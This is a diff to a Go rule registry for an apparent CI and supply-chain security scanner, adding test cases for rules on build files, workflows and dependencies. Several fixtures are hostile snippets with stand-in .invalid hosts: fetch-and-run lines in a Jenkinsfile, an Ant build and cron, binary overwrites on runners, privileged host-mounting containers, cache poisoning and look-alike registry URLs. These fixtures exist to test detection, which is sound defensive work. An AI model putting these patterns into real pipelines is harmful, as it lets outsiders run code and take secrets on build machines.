@@ -148,6 +148,10 @@ var registry = []Rule{
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
 		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
 		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
+		// Jenkins's httpRequest fetches; a pipeline's evaluate runs Groovy.
+		{"Jenkinsfile", "node {\n  script {\n    def cfg = httpRequest(url: 'https://plugins.x.invalid/cfg', quiet: true).content\n    evaluate(new String(cfg.decodeBase64(), 'UTF-8'))\n  }\n}", 4, false},
+		{"Jenkinsfile", "node {\n  def r = httpRequest(url: 'https://api.example.com/status')\n  echo r.content\n  def v = readJSON text: r.content\n}", 0, true},
+		{"src/x.js", "const title = await page.evaluate(() => document.title)\nconst body = await fetch(url)\nconsole.log(title, body)", 0, true},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
@@ -236,6 +240,9 @@ var registry = []Rule{
 		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
 		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
 		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
+		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
+		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
+		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -331,6 +338,8 @@ var registry = []Rule{
 			{".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"", 2, true},
 			{".npmrc", "node-options=--require ./scripts/hook.js", 0, false},
 			{".npmrc", "script-shell=./tools/sh", 0, false},
+			{".npmrc", "engine-strict=true\nscript-shell=./tools/ci-shell.sh", 2, false},
+			{".npmrc", "script-shell=/bin/bash", 0, true},
 			{".npmrc", "engine-strict=true", 0, true},
 		}},
 	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
@@ -641,12 +650,21 @@ var registry = []Rule{
 	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
 		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
 			{"x.sh", "cp evil.js /home/runner/work/_actions/actions/checkout/v4/dist/index.js", 0, false},
+			// A program the later steps run by name, written over where the
+			// shell finds it; a link or copy from it to elsewhere is not.
+			{".github/actions/setup/action.yml", "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        GIT_DIR=$(dirname \"$(command -v git)\")\n        curl -fsSL https://x.invalid/g -o \"$GIT_DIR/git\"", 7, false},
+			{"ci/setup.sh", "sudo cp ./wrapper.sh \"$(which python3)\"", 1, false},
+			{"ci/setup.sh", "PY=$(command -v python3)\nln -sf \"$PY\" ~/.local/bin/python\n\"$PY\" -m pip install -r requirements.txt", 0, true},
 			{"x.sh", `echo x > "$RUNNER_WORKSPACE/../_actions/actions/setup-node/v4/dist/setup/index.js"`, 0, false},
 		}},
 	{"gha-cache-poisoning", KindRunner, High, "saves a cache from code a pull request controls",
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+			// A key the pull request names picks the entry; a hunk that does
+			// not show the trigger may be under one that saves into the
+			// default branch's scope.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,4 +8,4 @@ jobs:\n       - uses: actions/cache@v4\n         with:\n           path: ~/.cargo\n-          key: cargo-${{ hashFiles('Cargo.lock') }}\n+          key: cargo-${{ github.event.pull_request.title }}-${{ hashFiles('Cargo.lock') }}\n", 11, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,2 +8,7 @@ jobs:\n       - run: npm ci\n+      - run: echo 'module.exports = 1' >> node_modules/left-pad/index.js\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 10, false},
 		}},
 	{"dependency-tamper", KindBuildFile, Medium, "writes into an installed dependency's files",
@@ -672,6 +690,9 @@ var registry = []Rule{
 			// request started; a hunk that does not show the trigger.
 			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repository }}\n          ref: ${{ github.event.client_payload.ref }}\n      - run: ./gradlew publish\n        env:\n          SIGNING_KEY: ${{ secrets.SIGNING_KEY }}", 10, false},
 			{".github/workflows/a.yml", "on:\n  check_suite:\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.check_suite.head_sha }}\n      - run: cargo build --release", 11, false},
+			// A dispatch's commit built on a self-hosted runner: the machine
+			// keeps what it leaves.
+			{".github/workflows/a.yml", "on:\n  repository_dispatch:\n    types: [e2e]\njobs:\n  b:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.client_payload.ref }}\n      - run: make e2e", 11, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -6,3 +6,6 @@ jobs:\n     steps:\n       - uses: actions/checkout@v4\n-      - run: pip install .\n+      - run: |\n+          git fetch origin ${{ github.event.client_payload.sha }}\n+          git checkout FETCH_HEAD\n+          pip install .\n", 11, false},
 			// The command a maintainer's comment relays (slash-command
 			// dispatch) checks out a pull request of this repository: the
@@ -741,6 +762,16 @@ var registry = []Rule{
 		"it hands the project's secrets to what the change runs", []Case{
 			{"x.js", "const k = `${{ secrets.API_KEY }}`", 0, false},
 		}},
+	{"runner-host-access", KindRunner, High, "starts a container with the self-hosted runner's host in its hands (privileged, the host's root, processes or Docker socket)",
+		"a self-hosted runner is a machine that keeps what a job leaves: a container given the host's root file system, its processes or its Docker daemon can change the runner itself, and the jobs after this one, other workflows' included, run on what it left", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          docker run -d --privileged --pid=host \\\n            -v /:/host ghcr.io/x/svc:pr-1", 6, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: docker run --rm --privileged -v /var/run/docker.sock:/var/run/docker.sock x/tool:1", 5, false},
+			// One grant alone on a self-hosted runner (QEMU's binfmt
+			// handlers, a scanner reading the daemon), or any of them on a
+			// runner GitHub discards after the job.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: docker run --rm --privileged tonistiigi/binfmt --install all\n      - run: docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image x", 0, true},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker run --privileged --pid=host -v /:/host alpine chroot /host true", 0, true},
+		}},
 	{"runner-orphan", KindExecute, High, "starts a process the runner will not stop at the job's end (RUNNER_TRACKING_ID changed)",
 		"the runner kills what a job leaves running by this variable; a process started without it outlives the job, watches the later steps' secrets and, on a self-hosted runner, the next jobs", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: RUNNER_TRACKING_ID=0 nohup ./agent &", 5, false},
@@ -797,6 +828,8 @@ var registry = []Rule{
 			// Code a build fetches from a host nobody knows, in any
 			// manifest (rules.SourceKeys): read (medium).
 			{"CMakeLists.txt", "FetchContent_Declare(json URL https://builds.x.invalid/json-3.11.3.tar.xz)", 1, false},
+			// Only under the key's own section: a URL of [env] is no plugin.
+			{"mise.toml", "[plugins]\nelixir = \"https://github.com/asdf-vm/asdf-elixir.git\"\n[env]\nAPI_URL = \"https://api.x.invalid\"", 0, true},
 			{"Package.swift", "let package = Package(\n    dependencies: [\n        .package(url: \"https://git.x.invalid/acme/swift-log.git\", from: \"1.6.1\"),\n    ]\n)", 3, false},
 		}},
 	{"dependency-confusion", KindDependency, High, "installs a name unpinned while a second package index is in effect",
@@ -980,6 +1013,16 @@ var registry = []Rule{
 			{"main.tf", "terraform {\n  required_providers {\n    aws = {\n      source  = \"hashicrop/aws\"\n    }\n  }\n}", 4, false},
 			{"Chart.yaml", "dependencies:\n  - name: redis\n    repository: oci://registry-1.docker.io/bitnamichart", 3, false},
 			{"mix.exs", "defp deps do\n  [{:jason, github: \"elixir-lang-jason/jason\"}]\nend", 2, false},
+			{"pkgs/tool.nix", "{ fetchFromGitHub }:\n{\n  src = fetchFromGitHub {\n    owner = \"NixO5\";\n    repo = \"nixpkgs\";\n  };\n}", 4, false},
+			{"mise.toml", "[plugins]\nnode = \"https://gitlab.com.asdf-plugins.x.invalid/asdf-vm/asdf-nodejs.git\"", 2, false},
+			{"deploy/kustomization.yaml", "resources:\n  - https://github.com.k8s-manifests.x.invalid/argoproj/argo-cd/manifests/install.yaml", 2, false},
+			// A package installed by URL from a host dressed as a
+			// registry's or forge's.
+			{"x.sh", "pip install https://files.pythonhosted-cdn.invalid/packages/requests-2.32.3.tar.gz", 1, false},
+			{"x.sh", "pip install git+https://gitlab-mirror.invalid/acme/lib.git@v1.0", 1, false},
+			// Any file's URL on a forge's host worn in front of another
+			// domain: no real host is named so.
+			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
 			// The well-known registries and forges, their own other
 			// domains, and real registries near one stay quiet.
 			{"charts/app/Chart.yaml", "dependencies:\n  - name: postgresql\n    repository: oci://registry-1.docker.io/bitnamicharts\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n  - name: common\n    repository: \"@bitnami\"\n  - name: lib\n    repository: file://../lib\n  - name: kube-prometheus-stack\n    repository: https://prometheus-community.github.io/helm-charts\n  - name: cert-manager\n    repository: https://charts.jetstack.io", 0, true},
@@ -989,6 +1032,8 @@ var registry = []Rule{
 			{"infra/main.tf", "terraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n    datadog = { source = \"DataDog/datadog\" }\n  }\n}\nmodule \"vpc\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\nmodule \"s3\" {\n  source = \"s3::https://s3-eu-west-1.amazonaws.com/acme-modules/vpc.zip\"\n}\nmodule \"gh\" {\n  source = \"github.com/cloudposse/terraform-null-label?ref=0.25.0\"\n}", 0, true},
 			{"MODULE.bazel", "http_archive(\n    name = \"zlib\",\n    urls = [\n        \"https://mirror.bazel.build/github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n        \"https://github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n    ],\n)", 0, true},
 			{"mix.exs", "defp deps do\n  [\n    {:plug, github: \"elixir-plug/plug\"},\n    {:ecto, git: \"https://github.com/elixir-ecto/ecto.git\", tag: \"v3.11.0\"}\n  ]\nend", 0, true},
+			{"mise.toml", "[tools]\nnode = \"20\"\n[plugins]\nelixir = \"https://github.com/asdf-vm/asdf-elixir.git\"\n[env]\nAPI_URL = \"https://api.x.invalid\"", 0, true},
+			{"deploy/kustomization.yaml", "resources:\n  - deployment.yaml\n  - https://github.com/kubernetes-sigs/metrics-server/releases/download/v0.7.1/components.yaml\n  - github.com/argoproj/argo-cd//manifests/cluster-install?ref=v2.11.0\n  - ../base", 0, true},
 			{".gitmodules", "[submodule \"src/boringssl\"]\n\tpath = src/boringssl\n\turl = https://boringssl.googlesource.com/boringssl\n[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = ../lib.git", 0, true},
 		}},
 	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
